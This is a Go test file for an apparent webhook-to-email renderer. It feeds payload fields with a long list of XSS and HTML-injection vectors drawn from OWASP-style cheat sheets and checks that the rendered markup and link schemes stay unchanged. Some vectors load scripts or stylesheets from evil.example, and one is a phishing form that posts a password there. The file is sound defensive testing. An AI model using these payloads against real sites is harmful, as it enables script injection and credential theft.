package hook

import (
	"encoding/json"
	"flag"
	"maps"
	"math/rand/v2"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// vectors are what an attacker puts into a member in the hope of markup. They are
// of the kinds that the HTML5 Security Cheatsheet and the OWASP filter evasion
// sheet list, written for the places where a template puts a payload: text,
// attributes, addresses, the title, style, and the seams between them.
var vectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
	`</title><script>alert(1)</script>`,
	`</td></tr></table><script>alert(1)</script>`,
	`</style><script>alert(1)</script>`,
	`--><script>alert(1)</script>`,
	`]]><script>alert(1)</script>`,
	`"><script>alert(1)</script>`,
	`'><script>alert(1)</script>`,
	`" onmouseover="alert(1)`,
	`' onmouseover='alert(1)`,
	"` onmouseover=alert(1) x=`",
	` onmouseover=alert(1) `,
	`"/onmouseover=alert(1)//`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<img/src/onerror=alert(1)>`,
	`<image src=x onerror=alert(1)>`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert&#40;1&#41;</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
	`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<math href="javascript:alert(1)">CLICKME</math>`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>">`,
	`<object data="data:text/html,<script>alert(1)</script>">`,
	`<embed src="data:image/svg+xml;base64,PHN2Zz4=">`,
	`<applet code=x>`,
	`<base href="https://evil.example/">`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
	`<style>@import 'https://evil.example/x.css';</style>`,
	`<div style="background:url(javascript:alert(1))">`,
	`<p style="position:fixed;top:0;left:0;width:100%">Your password has expired</p>`,
	`; background: url(https://evil.example/track.png)`,
	`red;} body { display:none } .x {`,
	`expression(alert(1))`,
	`<form action="https://evil.example/"><input name=password></form>`,
	`<button formaction="javascript:alert(1)">X</button>`,
	`<input onfocus=alert(1) autofocus>`,
	`<select onfocus=alert(1) autofocus><option>x</select>`,
	`<textarea onfocus=alert(1) autofocus>`,
	`<details open ontoggle=alert(1)>`,
	`<video poster=javascript:alert(1)><source onerror="alert(1)"></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<marquee onstart=alert(1)>`,
	`<keygen autofocus onfocus=alert(1)>`,
	`<body onload=alert(1)>`,
	`<html manifest=https://evil.example/x>`,
	`<frameset onload=alert(1)>`,
	`<table background="javascript:alert(1)">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="https://evil.example/">Sign in again</a>`,
	`<!--[if gte IE 4]><script>alert(1)</script><![endif]-->`,
	`<!-- a comment -->`,
	`<!DOCTYPE x [<!ENTITY x "<script>alert(1)</script>">]>`,
	`<?xml version="1.0"?><x>`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`&lt;script&gt;alert(1)&lt;/script&gt;`,
	`&#60;script&#62;alert(1)&#60;/script&#62;`,
	`&#x3c;script&#x3e;`,
	`&quot; onmouseover=&quot;alert(1)`,
	`%3Cscript%3Ealert(1)%3C/script%3E`,
	"<scr\u0000ipt>alert(1)</scr\u0000ipt>",
	"<\u0000script>alert(1)</script>",
	"<scr\nipt>alert(1)</scr\nipt>",
	"<a\u000bonmouseover=alert(1)>",
	"\u2028<script>alert(1)</script>\u2029",
	"\u202e>tpircs<",
	"\ufeff<script>alert(1)</script>",
	"+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<template><script>alert(1)</script></template>`,
	`<plaintext>`,
	`<xmp><script>alert(1)</script></xmp>`,
	`<title><img src=x onerror=alert(1)></title>`,
	`{{template "close"}}`,
	`{{"<script>"}}`,
	`${alert(1)}`,
	`#ZgotmplZ`,
	`javascript:alert(1)`,
	`JaVaScRiPt:alert(1)`,
	"java\nscript:alert(1)",
	"java\tscript:alert(1)",
	" javascript:alert(1)",
	"\u0001javascript:alert(1)",
	`javascript&colon;alert(1)`,
	`vbscript:msgbox(1)`,
	`data:text/html,<script>alert(1)</script>`,
	`data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
	`file:///etc/passwd`,
	`ms-word:ofe|u|https://evil.example/x.docx`,
	`//evil.example/x`,
	`https:evil.example`,
	`https://user@evil.example/`,
	`view-source:javascript:alert(1)`,
	`feed:javascript:alert(1)`,
	`https://good.example/"><script>alert(1)</script>`,
	`https://good.example/' onclick='alert(1)`,
	"https://good.example/` onclick=alert(1)",
	`https://good.example/?a=1&lt=2&quot;>`,
	`mailto:ann@example.com?body=<script>alert(1)</script>`,
	"cid:horn",
}

// harmless is of the same lines and the same length, and leads to the web if the
// vector does: what remains different is markup.
func harmless(vector string) string {
	x := strings.Map(func(r rune) rune {
		if r == '\n' {
			return r
		}
		return 'x'
	}, vector)
	if webAddress(vector) != "" {
		return "https://x.example/" + x
	}
	return x
}

// element is one tag with all of its attributes but where it leads.
type element struct {
	tag, attributes string
}

// skeleton is the elements of a page in order, and where its links lead. A comment
// or a doctype counts as an element.
func skeleton(t testing.TB, source string) (all []element, links []string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(source))
	if err != nil {
		t.Fatal(err)
	}
	var visit func(n *html.Node)
	visit = func(n *html.Node) {
		switch n.Type {
		case html.ElementNode:
			var attributes []string
			for _, a := range n.Attr {
				if a.Key == "href" {
					links = append(links, a.Val)
					a.Val = ""
				}
				attributes = append(attributes, a.Key+"="+a.Val)
			}
			if n.Data == "br" && attributes == nil {
				break // where HTML in a value ended a line
			}
			all = append(all, element{n.Data, strings.Join(attributes, "|")})
		case html.CommentNode, html.DoctypeNode:
			all = append(all, element{"!", n.Data})
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			visit(c)
		}
	}
	visit(doc)
	return all, links
}

// poisoned puts word into each string of a payload, and beside the members of each
// object as one more, name and value.
func poisoned(v any, word string) any {
	switch v := v.(type) {
	case map[string]any:
		m := map[string]any{"~" + word: word} // the last by name, whatever the word
		for name, of := range v {
			m[name] = poisoned(of, word)
		}
		return m
	case []any:
		list := make([]any, len(v))
		for i, item := range v {
			list[i] = poisoned(item, word)
		}
		return list
	case string:
		return word
	default:
		return v
	}
}

func htmlOf(t testing.TB, s sample, payload any, event string) string {
	t.Helper()
	body, err := json.Marshal(payload)
	if err != nil {
		t.Fatal(err)
	}
	header := http.Header{"Content-Type": {"application/json"}}
	if event != "" {
		header.Set("X-GitHub-Event", event)
	}
	all, err := s.hook().Messages(t.Context(), Delivery{Header: header, Body: body, At: noon})
	if err != nil || len(all) == 0 {
		t.Fatalf("%d messages, %v", len(all), err)
	}
	if strings.ContainsAny(all[0].Content.Subject, "\r\n\x00\u202e\u2028") {
		t.Errorf("the subject has what ends or turns a line: %q", all[0].Content.Subject)
	}
	return all[0].Content.HTML
}

// Large samples have many strings, and take a while: each run gives them other vectors,
// one in four. A short run gives all samples one in eight.
func TestNoPayloadMakesMarkupOfItsOwn(t *testing.T) {
	t.Parallel()
	if len(vectors) < 60 {
		t.Fatalf("%d vectors", len(vectors))
	}
	all := append(slices.Clone(samples), sample{file: "generic.json", builtin: "form"})
	for _, s := range all {
		t.Run(s.builtin+" "+s.file, func(t *testing.T) {
			t.Parallel()
			var payload any
			if err := json.Unmarshal(s.delivery(t).Body, &payload); err != nil {
				t.Fatal(err)
			}
			step := 1
			switch large := len(s.delivery(t).Body) > 10_000; {
			case *everyString:
			case testing.Short():
				step = 8
			case large:
				step = 4
			}
			for i := rand.IntN(step); i < len(vectors); i += step {
				vector := vectors[i]
				event := ""
				if s.event != "" {
					event = strings.Map(func(r rune) rune {
						if r < ' ' || r > '~' {
							return -1
						}
						return r
					}, vector)
				}
				got, links := skeleton(t, htmlOf(t, s, poisoned(payload, vector), event))
				want, _ := skeleton(t, htmlOf(t, s, poisoned(payload, harmless(vector)), harmless(event)))
				if !slices.Equal(got, want) {
					t.Errorf("%q changes the elements: %s", vector, firstDifference(got, want))
				}
				for _, link := range links {
					if u, err := url.Parse(link); err != nil || !slices.Contains([]string{"http", "https", "mailto"}, u.Scheme) {
						t.Errorf("%q leads to %q", vector, link)
					}
				}
			}
		})
	}
}

var everyString = flag.Bool("markup.every", false, "try every string of a sample, not forty of them, and every vector in all of it")

// One member at a time, so that the branches which the words of the others open
// stay open. Large samples have hundreds; each run takes other ones of them.
func TestNoSingleMemberMakesMarkupOfItsOwn(t *testing.T) {
	t.Parallel()
	all := strings.ReplaceAll(strings.Join(vectors[:85], " "), "\n", " ")
	for _, s := range samples {
		t.Run(s.file, func(t *testing.T) {
			t.Parallel()
			var payload any
			if err := json.Unmarshal(s.delivery(t).Body, &payload); err != nil {
				t.Fatal(err)
			}
			leaves := count(payload)
			step := 1 + leaves/40
			switch {
			case *everyString:
				step = 1
			case testing.Short():
				step = 1 + leaves/8
			}
			for i := rand.IntN(step); i < leaves; i += step {
				got, _ := skeleton(t, htmlOf(t, s, one(payload, i, all), s.event))
				want, _ := skeleton(t, htmlOf(t, s, one(payload, i, strings.Repeat("x", len([]rune(all)))), s.event))
				if !slices.Equal(got, want) {
					t.Errorf("string %d changes the elements: %s", i, firstDifference(got, want))
				}
			}
		})
	}
}

func count(v any) int {
	n := 0
	_ = each(v, func(s string) string { n++; return s })
	return n
}

// one replaces the i-th string.
func one(v any, i int, word string) any {
	n := -1
	return each(v, func(s string) string {
		if n++; n == i {
			return word
		}
		return s
	})
}

// each copies v, with f over its strings in a fixed order.
func each(v any, f func(string) string) any {
	switch v := v.(type) {
	case map[string]any:
		m := map[string]any{}
		for _, name := range slices.Sorted(maps.Keys(v)) {
			m[name] = each(v[name], f)
		}
		return m
	case []any:
		list := make([]any, len(v))
		for i, item := range v {
			list[i] = each(item, f)
		}
		return list
	case string:
		return f(v)
	default:
		return v
	}
}

func firstDifference(got, want []element) string {
	for i, e := range got {
		if i >= len(want) || e != want[i] {
			return "at " + e.tag + " " + e.attributes
		}
	}
	return "fewer"
}
